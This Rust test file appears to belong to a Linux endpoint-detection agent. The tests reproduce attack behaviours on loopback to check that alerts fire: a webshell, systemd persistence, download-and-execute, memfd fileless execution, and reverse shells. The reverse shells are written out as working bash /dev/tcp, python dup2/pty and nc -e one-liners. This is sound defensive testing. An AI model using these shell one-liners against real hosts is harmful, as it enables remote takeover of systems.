//! Privileged end-to-end tests of the scenario detections: each performs
//! the behaviour on this machine (loopback only, cleaned up afterwards)
//! and asserts the alert, its evidence, and that a near miss stays quiet.

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::symlink;
use std::process::{Command, Stdio};
use std::time::Duration;

use common::scenario::{
    Attacker, CONFIG, Cleanup, alerts, downloader, evidence, is_alert, serve_once, shell_alerts,
};
use common::{Agent, action, alerts_for, get, pid_of, privileged, rule_ids, sh, unique};
use serde_json::Value;
use sha2::Digest;

const PYTHON: &str = "/usr/bin/python3";

#[test]
fn web_server_running_a_shell_is_a_webshell() {
    if !privileged("web_server_running_a_shell_is_a_webshell") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // A tiny HTTP server named like a web server: every GET runs
    // `sh -c "id; echo MARKER"` and returns its output.
    let nginx = dir.path().join("nginx");
    symlink(PYTHON, &nginx).unwrap();
    let marker = unique("webshell");
    let server = format!(
        r#"
import http.server, subprocess, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.run(["/bin/sh", "-c", "id; echo {marker}"], capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.handle_request()
"#
    );
    let agent = Agent::start(CONFIG);
    let mut child = Command::new(&nginx)
        .args(["-c", &server])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let server_pid = child.id();
    let mut port = String::new();
    let mut out = child.stdout.take().unwrap();
    let mut byte = [0u8];
    while out.read(&mut byte).unwrap() == 1 && byte[0] != b'\n' {
        port.push(byte[0] as char);
    }
    let mut conn = TcpStream::connect(("127.0.0.1", port.trim().parse::<u16>().unwrap())).unwrap();
    conn.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
    let mut reply = String::new();
    conn.read_to_string(&mut reply).unwrap();
    assert!(reply.contains(&marker), "{reply}");
    assert!(child.wait().unwrap().success());
    // Near miss: the same shell command from this test (no web server).
    let plain = sh(&format!("id > /dev/null; echo {marker}-plain > /dev/null"));
    agent.wait_for("the webshell alert", |r| {
        is_alert(r, "rg-webshell-exec") && get(r, "process.parent.pid") == server_pid
    });
    agent.wait_for("the near miss's exit", |r| {
        action(r) == "exit" && pid_of(r) == u64::from(plain)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");

    let mine: Vec<&Value> = alerts(&records, "rg-webshell-exec")
        .into_iter()
        .filter(|a| get(a, "process.parent.pid") == server_pid)
        .collect();
    // One alert: on the sh (the id below it is part of the same command).
    assert_eq!(mine.len(), 1, "{mine:#?}");
    let a = mine[0];
    let sh_pid = pid_of(a);
    assert_eq!(get(a, "process.executable"), "/bin/sh");
    assert_eq!(get(a, "event.severity"), 73);
    assert_eq!(get(a, "threat.technique.id"), &serde_json::json!(["T1505"]));
    assert_eq!(
        get(a, "threat.technique.subtechnique.id"),
        &serde_json::json!(["T1505.003"])
    );
    assert_eq!(
        get(a, "message").as_str().unwrap(),
        format!("sh run under web server nginx (pid {server_pid}): /bin/sh -c id; echo {marker}")
    );
    assert_eq!(
        evidence(a),
        [
            ("exec".into(), u64::from(server_pid)),
            ("exec".into(), sh_pid)
        ]
    );
    let ev0 = &get(a, "rand_guard.alert.evidence")[0];
    assert_eq!(get(ev0, "process.executable"), nginx.to_str().unwrap());
    assert!(
        alerts_for(&records, plain).is_empty(),
        "no alert for a shell outside a web server"
    );
}

#[test]
fn systemd_unit_written_then_enabled() {
    if !privileged("systemd_unit_written_then_enabled") {
        return;
    }
    let name = unique("enable");
    let (a, b, c) = (
        format!("{name}-a.service"),
        format!("{name}-b.service"),
        format!("{name}-c.service"),
    );
    let units = "/etc/systemd/system";
    let wants = format!("{units}/multi-user.target.wants");
    fs::create_dir_all(&wants).unwrap();
    let cleanup = [
        format!("{units}/{a}"),
        format!("{units}/{b}"),
        format!("{units}/{c}"),
        format!("{wants}/{b}"),
    ];
    let _guard = Cleanup(cleanup.to_vec());
    let agent = Agent::start(CONFIG);
    let unit = "[Service]\nExecStart=/bin/true\n";
    // A: written, then `systemctl enable` names it (it fails here, where
    // systemd is not running, but the attempt is the signal).
    let write_a = sh(&format!("printf '{unit}' > {units}/{a}"));
    let _ = Command::new("systemctl")
        .args(["enable", a.trim_end_matches(".service")])
        .stderr(Stdio::null())
        .status()
        .unwrap();
    // B: written, then linked into multi-user.target.wants.
    let write_b = sh(&format!("printf '{unit}' > {units}/{b}"));
    let mut ln = Command::new("ln")
        .args(["-s", &format!("{units}/{b}"), &format!("{wants}/{b}")])
        .spawn()
        .unwrap();
    let link_b = ln.id();
    assert!(ln.wait().unwrap().success());
    // C (near miss): written, then only its status asked.
    let write_c = sh(&format!("printf '{unit}' > {units}/{c}"));
    let _ = Command::new("systemctl")
        .args(["status", &c])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    agent.wait_for("the link alert", |r| {
        is_alert(r, "rg-persist-systemd-enable") && pid_of(r) == u64::from(link_b)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let mine: Vec<&Value> = alerts(&records, "rg-persist-systemd-enable")
        .into_iter()
        .filter(|r| {
            get(r, "message")
                .as_str()
                .is_some_and(|m| m.contains(&name))
        })
        .collect();
    assert_eq!(mine.len(), 2, "{mine:#?}");
    let (ea, eb) = (evidence(mine[0]), evidence(mine[1]));
    assert_eq!(ea[0], ("open".into(), u64::from(write_a)));
    assert_eq!(ea[1].0, "exec");
    assert_eq!(get(mine[0], "process.executable"), "/usr/bin/systemctl");
    assert!(
        get(mine[0], "message")
            .as_str()
            .unwrap()
            .starts_with(&format!(
                "Systemd unit {a} written by /bin/sh then enabled or started (systemctl enable {}",
                a.trim_end_matches(".service")
            )),
        "{}",
        get(mine[0], "message")
    );
    assert_eq!(
        eb,
        [
            ("open".into(), u64::from(write_b)),
            ("symlink".into(), u64::from(link_b))
        ]
    );
    assert_eq!(get(mine[1], "event.severity"), 99);
    // C: the single-write alert only.
    assert_eq!(
        rule_ids(&alerts_for(&records, write_c)),
        ["rg-persist-systemd-unit"]
    );
}

#[test]
fn downloaded_file_executed_from_tmp_is_critical() {
    if !privileged("downloaded_file_executed_from_tmp_is_critical") {
        return;
    }
    let payload = format!("/tmp/{}", unique("drop"));
    let copied = format!("/tmp/{}", unique("copy"));
    let unrun = format!("/tmp/{}", unique("unrun"));
    let _guard = Cleanup(vec![payload.clone(), copied.clone(), unrun.clone()]);
    let (port, serve) = serve_once(fs::read("/bin/true").unwrap());
    let agent = Agent::start(CONFIG);
    // A "downloader": connect, save what comes, make it executable, run it.
    let script = downloader(
        port,
        &payload,
        &format!("os.execv(\"{payload}\", [\"{payload}\"])"),
    );
    let mut py = Command::new(PYTHON).args(["-c", &script]).spawn().unwrap();
    let py_pid = py.id();
    assert!(py.wait().unwrap().success());
    serve.join().unwrap();
    // A local copy run from /tmp: high, not critical.
    let cp_pid = sh(&format!("cp /bin/true {copied}; exec {copied}"));
    // Near miss: written, never run.
    sh(&format!("cp /bin/true {unrun}; /bin/true"));
    agent.wait_for("the copy's alert", |r| {
        is_alert(r, "rg-drop-exec") && pid_of(r) == u64::from(cp_pid)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");

    let drop: Vec<&Value> = alerts(&records, "rg-drop-exec");
    let dl: Vec<&&Value> = drop
        .iter()
        .filter(|r| pid_of(r) == u64::from(py_pid))
        .collect();
    assert_eq!(dl.len(), 1, "{drop:#?}");
    assert_eq!(get(dl[0], "event.severity"), 99);
    assert_eq!(
        evidence(dl[0]),
        [
            ("connect".into(), u64::from(py_pid)),
            ("open".into(), u64::from(py_pid)),
            ("chmod".into(), u64::from(py_pid)),
            ("exec".into(), u64::from(py_pid)),
        ]
    );
    // The payload exits at once: its hash is there only when the hasher
    // opened it in time ([hash], docs/schema.md), then it is /bin/true's.
    let base = format!(
        "{payload} written by {PYTHON} then executed by pid {py_pid} (the writer downloads, in a temporary directory)"
    );
    let digest: String = sha2::Sha256::digest(fs::read("/bin/true").unwrap())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let message = get(dl[0], "message").as_str().unwrap();
    assert!(
        message == base || message == format!("{base} [sha256 {digest}]"),
        "{message}"
    );
    let dest = &get(dl[0], "rand_guard.alert.evidence")[0]["destination"];
    assert_eq!(dest["port"], port);
    let cp: Vec<&&Value> = drop
        .iter()
        .filter(|r| pid_of(r) == u64::from(cp_pid))
        .collect();
    assert_eq!(cp.len(), 1);
    assert_eq!(get(cp[0], "event.severity"), 73);
    assert!(
        drop.iter().all(|r| get(r, "message")
            .as_str()
            .is_none_or(|m| !m.contains(&unrun))),
        "{drop:#?}"
    );
    // /tmp is watched for detections only: its events are not written.
    assert!(
        records
            .iter()
            .all(|r| !(r["record_type"] == "event" && get(r, "file.path") == payload.as_str())),
        "detection-only events were written"
    );
}

#[test]
fn memfd_execution_is_fileless() {
    if !privileged("memfd_execution_is_fileless") {
        return;
    }
    let agent = Agent::start(CONFIG);
    let script = r#"
import os
fd = os.memfd_create("rg-payload", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["rg-payload"])
"#;
    let mut py = Command::new(PYTHON).args(["-c", script]).spawn().unwrap();
    let pid = py.id();
    assert!(py.wait().unwrap().success());
    // Near miss: /bin/true run from its file.
    let plain = sh("exec /bin/true");
    agent.wait_for("the fileless alert", |r| {
        is_alert(r, "rg-fileless-exec") && pid_of(r) == u64::from(pid)
    });
    agent.wait_for("the near miss's exit", |r| {
        action(r) == "exit" && pid_of(r) == u64::from(plain)
    });
    std::thread::sleep(Duration::from_millis(100));
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let mine = alerts_for(&records, pid);
    assert_eq!(mine.len(), 1, "{mine:#?}");
    assert_eq!(get(mine[0], "rand_guard.process.exe"), "memfd:rg-payload");
    assert_eq!(
        get(mine[0], "message").as_str().unwrap(),
        format!("Program run from memory (memfd:rg-payload) as /proc/self/fd/3 by pid {pid}")
    );
    assert!(alerts_for(&records, plain).is_empty());
}

/// A copy of `conn` for a child's stdin or stdout.
fn on_socket(conn: &TcpStream) -> Stdio {
    Stdio::from(std::os::fd::OwnedFd::from(conn.try_clone().unwrap()))
}

/// The usual python one-liner: connect to loopback `port`, dup2 the
/// socket onto 0, 1, 2, then a pty shell.
fn python_reverse_shell(port: u16) -> String {
    format!(
        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{port}));\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
    )
}

#[test]
fn reverse_shells_are_critical() {
    if !privileged("reverse_shells_are_critical") {
        return;
    }
    let agent = Agent::start(CONFIG);
    let marker = unique("revshell");

    // 1. bash's own /dev/tcp redirection.
    let bash = Attacker::new();
    let line = format!(
        "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{} 0>&1",
        bash.port
    );
    let mut c = Command::new("/bin/bash")
        .args(["-c", &line])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let bash_pid = c.id();
    assert!(bash.drive(&marker).contains(&marker));
    c.wait().unwrap();

    // 2. python: connect, dup2 onto 0, 1, 2, then a pty shell.
    let py = Attacker::new();
    let mut c = Command::new(PYTHON)
        .args(["-c", &python_reverse_shell(py.port)])
        .spawn()
        .unwrap();
    let py_pid = c.id();
    assert!(py.drive(&marker).contains(&marker));
    c.wait().unwrap();

    // 3. netcat's -e: connect, dup2, exec the shell in the same process.
    let nc = Attacker::new();
    let mut c = Command::new("/usr/bin/nc.traditional")
        .args(["-e", "/bin/sh", "127.0.0.1", &nc.port.to_string()])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let nc_pid = c.id();
    assert!(nc.drive(&marker).contains(&marker));
    c.wait().unwrap();

    // 4. A shell exec'd with the socket already on its stdio (the program
    // that wired it, this test, is not a shell: the exec is the evidence).
    let ex = Attacker::new();
    let conn = TcpStream::connect(("127.0.0.1", ex.port)).unwrap();
    let mut c = Command::new("/bin/sh")
        .arg("-i")
        .stdin(on_socket(&conn))
        .stdout(on_socket(&conn))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    drop(conn);
    let ex_pid = c.id();
    assert!(ex.drive(&marker).contains(&marker));
    c.wait().unwrap();

    agent.wait_for("the exec'd shell's alert", |r| {
        is_alert(r, "rg-reverse-shell") && pid_of(r) == u64::from(ex_pid)
    });
    std::thread::sleep(Duration::from_millis(200));
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");

    // Each reverse shell: exactly one critical alert, on the right process,
    // however many subshells and execs its socket went through.
    let one = |port: u16, what: &str| -> Value {
        let mine: Vec<&Value> = shell_alerts(&records, port)
            .into_iter()
            .filter(|a| get(a, "event.severity") == 99)
            .collect();
        assert_eq!(mine.len(), 1, "{what}: {mine:#?}");
        let a = mine[0].clone();
        assert_eq!(get(&a, "rule.name"), "Reverse shell");
        assert_eq!(
            get(&a, "threat.technique.subtechnique.id"),
            &serde_json::json!(["T1059.004"])
        );
        let ev = evidence(&a);
        assert_eq!(ev.len(), 2, "{a:#}");
        assert_eq!(ev[0].0, "exec");
        assert_eq!(ev[1].0, "stdio_socket");
        assert_eq!(ev[1].1, pid_of(&a));
        a
    };
    // bash: the redirection is a dup2 in the child bash -c forks for the
    // command, and the command line of the bash we started says so.
    let a = one(bash.port, "bash");
    let inner = pid_of(&a);
    assert_eq!(get(&a, "process.parent.pid"), bash_pid);
    assert_eq!(
        get(&a, "message").as_str().unwrap(),
        format!(
            "bash (pid {inner}) has fds 0, 1, 2 on a socket to 127.0.0.1:{} (dup2 gave it): \
             an interactive shell over the network",
            bash.port
        )
    );
    let medium: Vec<&Value> = alerts(&records, "rg-reverse-shell")
        .into_iter()
        .filter(|a| pid_of(a) == u64::from(bash_pid) && get(a, "event.severity") == 47)
        .collect();
    assert_eq!(medium.len(), 1, "{medium:#?}");
    assert_eq!(
        get(medium[0], "message").as_str().unwrap(),
        format!("bash (pid {bash_pid}) started with a network redirection: {line}")
    );

    let a = one(py.port, "python");
    assert_eq!(pid_of(&a), u64::from(py_pid));
    assert_eq!(
        get(&a, "message").as_str().unwrap(),
        format!(
            "python3 (pid {py_pid}) has fds 0, 1 on a socket to 127.0.0.1:{} (dup2 gave it): \
             an interactive shell over the network",
            py.port
        )
    );

    let a = one(nc.port, "nc");
    assert_eq!(pid_of(&a), u64::from(nc_pid));
    assert_eq!(get(&a, "process.name"), "nc.traditional");

    let a = one(ex.port, "exec");
    assert_eq!(pid_of(&a), u64::from(ex_pid));
    assert_eq!(
        get(&a, "message").as_str().unwrap(),
        format!(
            "sh (pid {ex_pid}) has fds 0, 1 on a socket to 127.0.0.1:{} (started with): \
             an interactive shell over the network",
            ex.port
        )
    );
    // The telemetry behind it.
    let ev: Vec<&Value> = records
        .iter()
        .filter(|r| {
            r["record_type"] == "event"
                && get(r, "event.action") == "stdio_socket"
                && pid_of(r) == u64::from(ex_pid)
                && get(r, "rand_guard.network.syscall") == "execve"
        })
        .collect();
    assert_eq!(ev.len(), 1, "{ev:#?}");
    assert_eq!(
        get(ev[0], "rand_guard.network.stdio_fds"),
        &serde_json::json!([0, 1])
    );
    assert_eq!(get(ev[0], "network.transport"), "tcp");
    assert_eq!(get(ev[0], "destination.port"), ex.port);
    assert!(
        get(ev[0], "rand_guard.network.socket_inode")
            .as_u64()
            .unwrap()
            > 0
    );
}

#[test]
fn near_misses_do_not_raise_reverse_shell() {
    if !privileged("near_misses_do_not_raise_reverse_shell") {
        return;
    }
    let agent = Agent::start(CONFIG);
    let marker = unique("revmiss");

    // A program that is no shell serving a connection on its stdio (what
    // an inetd-style service looks like): telemetry, no alert.
    let srv = Attacker::new();
    let conn = TcpStream::connect(("127.0.0.1", srv.port)).unwrap();
    let mut c = Command::new("/bin/cat")
        .stdin(on_socket(&conn))
        .stdout(on_socket(&conn))
        .spawn()
        .unwrap();
    drop(conn);
    let cat_pid = c.id();
    let echoed = srv.drive(&marker);
    assert!(echoed.contains(&marker), "{echoed}");
    c.wait().unwrap();

    // A shell whose output alone goes to a socket (stdin is not one).
    let out = Attacker::new();
    let conn = TcpStream::connect(("127.0.0.1", out.port)).unwrap();
    let mut c = Command::new("/bin/sh")
        .args(["-c", &format!("echo {marker}")])
        .stdin(Stdio::null())
        .stdout(on_socket(&conn))
        .spawn()
        .unwrap();
    drop(conn);
    let sh_pid = c.id();
    let (mut accepted, _) = out.listener.accept().unwrap();
    let mut got = String::new();
    accepted.read_to_string(&mut got).unwrap();
    assert!(got.contains(&marker));
    c.wait().unwrap();

    // A script that merely mentions /dev/tcp/ is no redirection.
    let mut c = Command::new(PYTHON)
        .args(["-c", &format!("print('/dev/tcp/127.0.0.1/9 {marker}')")])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let py_pid = c.id();
    c.wait().unwrap();

    agent.wait_for("the cat's stdio-socket event", |r| {
        get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(cat_pid)
    });
    // And the python's exec, so the agent has seen everything.
    agent.wait_for("the python's exec", |r| {
        get(r, "event.action") == "exec" && pid_of(r) == u64::from(py_pid)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    for pid in [cat_pid, sh_pid, py_pid] {
        let mine = alerts_for(&records, pid);
        assert!(mine.is_empty(), "{mine:#?}");
    }
    assert!(shell_alerts(&records, srv.port).is_empty());
    // The shell with only its output on a socket makes no stdio record.
    assert!(
        records
            .iter()
            .all(|r| !(get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(sh_pid)))
    );
}

/// A copy and a hard link of the system's python under names on no list
/// are python: rg-reverse-shell knows them by content (SHA-256 against
/// the system's copy) and by inode. A copy of another program with its
/// stdio on a socket is not a shell.
#[test]
fn copies_and_hard_links_of_an_interpreter_are_still_reverse_shells() {
    if !privileged("copies_and_hard_links_of_an_interpreter_are_still_reverse_shells") {
        return;
    }
    let real = fs::canonicalize(PYTHON).unwrap();
    let real_name = real.file_name().unwrap().to_str().unwrap().to_string();
    let (copy, link, other) = (
        format!("/tmp/{}", unique("xyz")),
        format!("/tmp/{}", unique("lnk")),
        format!("/tmp/{}", unique("qq")),
    );
    let _guard = Cleanup(vec![copy.clone(), link.clone(), other.clone()]);
    fs::copy(&real, &copy).unwrap();
    fs::hard_link(&real, &link).unwrap();
    fs::copy("/bin/sleep", &other).unwrap();
    // A debug build hashes a 6 MB interpreter in about a second: the
    // alert may wait that long for the copy's hash (release: ~20 ms).
    let agent = Agent::start(&format!("{CONFIG}[hash]\nalert_wait_ms = 5000\n"));
    let marker = unique("copied");
    let mut shells = Vec::new();
    for bin in [&copy, &link] {
        let at = Attacker::new();
        let mut c = Command::new(bin)
            .args(["-c", &python_reverse_shell(at.port)])
            .spawn()
            .unwrap();
        assert!(at.drive(&marker).contains(&marker));
        c.wait().unwrap();
        shells.push((c.id(), at.port));
    }
    // Near miss: another binary under a name on no list, started with a
    // socket on its stdin and stdout.
    let near = Attacker::new();
    let conn = TcpStream::connect(("127.0.0.1", near.port)).unwrap();
    let mut c = Command::new(&other)
        .arg("0.3")
        .stdin(on_socket(&conn))
        .stdout(on_socket(&conn))
        .spawn()
        .unwrap();
    drop(conn);
    let other_pid = c.id();
    c.wait().unwrap();
    agent.wait_for("the near miss's stdio-socket event", |r| {
        get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(other_pid)
    });
    let link_pid = shells[1].0;
    agent.wait_for("the hard link's alert", |r| {
        is_alert(r, "rg-reverse-shell") && pid_of(r) == u64::from(link_pid)
    });
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");

    for ((pid, port), (bin, how)) in shells
        .iter()
        .zip([(&copy, "a copy of"), (&link, "a hard link to")])
    {
        let mine = shell_alerts(&records, *port);
        assert_eq!(mine.len(), 1, "{bin}: {mine:#?}");
        let a = mine[0];
        assert_eq!(pid_of(a), u64::from(*pid));
        assert_eq!(get(a, "event.severity"), 99);
        let name = bin.rsplit('/').next().unwrap();
        assert_eq!(
            get(a, "message").as_str().unwrap(),
            format!(
                "{name} ({how} {real_name}) (pid {pid}) has fds 0, 1 on a socket to \
                 127.0.0.1:{port} (dup2 gave it): an interactive shell over the network"
            )
        );
    }
    assert!(shell_alerts(&records, near.port).is_empty());
    assert!(
        !records
            .iter()
            .any(|r| is_alert(r, "rg-reverse-shell") && pid_of(r) == u64::from(other_pid)),
        "the near miss alerted"
    );
}
